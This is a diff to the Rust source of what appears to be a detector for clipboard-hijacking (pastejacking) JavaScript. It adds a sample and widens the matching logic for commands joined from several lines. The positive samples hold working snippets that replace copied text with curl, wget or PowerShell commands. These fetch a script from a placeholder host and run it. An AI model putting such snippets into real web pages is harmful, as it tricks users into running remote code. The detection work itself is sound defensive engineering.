@@ -20,6 +20,7 @@ pub(super) const SIGNAL: Signal = Signal {
             r#"document.addEventListener('copy',function(e){e.clipboardData.setData('text/plain','curl -s https://a.invalid/p | sh\n');e.preventDefault()})"#,
             r#"code.oncopy=e=>{const seen=String(getSelection());e.clipboardData.setData('text/plain','wget -qO- https://a.invalid/r.sh | bash; clear; '+seen);e.preventDefault()}"#,
             r#"const line='powershell -c iwr https://a.invalid/x | iex';function put(e){e.clipboardData.setData('text/plain',line);e.preventDefault()}document.querySelector('pre').addEventListener('copy',put)"#,
+            r#"document.addEventListener('copy',function(e){var seen=getSelection().toString();var lines=['clear','curl -s https://a.invalid/i.sh | sh',seen].join('; ');e.clipboardData.setData('text/plain',lines);e.preventDefault()})"#,
         ],
         without: &[
             r#"document.addEventListener('copy',function(e){e.clipboardData.setData('text/plain',getSelection()+' From '+location.href);e.preventDefault()})"#,
@@ -39,14 +40,14 @@ fn swaps(evidence: &Evidence<'_>, held: Held) -> bool {
     }
     let Some(given) = near.arguments(call) else { return false };
     let is_command = |at: usize| near.has_fact_in(at..at + 1, COMMANDS);
-    // Written here, or a constant.
+    // Written here, or a constant, or joined of lines.
     let constant = |at: usize| {
         near.kind(at) == Some(Kind::Name)
             && near.places().any(|set| {
                 near.kind(set) == Some(Kind::Name)
                     && near.word(set) == near.word(at)
                     && near.is(set + 1, b'=')
-                    && is_command(set + 2)
+                    && (set + 2..set + VALUE).take_while(|at| !near.is(*at, b';')).any(is_command)
             })
     };
     given.into_iter().any(|at| is_command(at) || constant(at)) && answers_to_copying(near, call)
@@ -64,5 +65,7 @@ fn answers_to_copying(near: Near<'_>, at: usize) -> bool {
 }
 
 const COMMANDS: &[Atom] = &[Atom::PlainCommand, Atom::StealthyCommand, Atom::Interpreter];
+/// Items of a constant.
+const VALUE: usize = 24;
 /// Items around a call among which what listens is, and a constant.
 const AROUND: usize = 300;
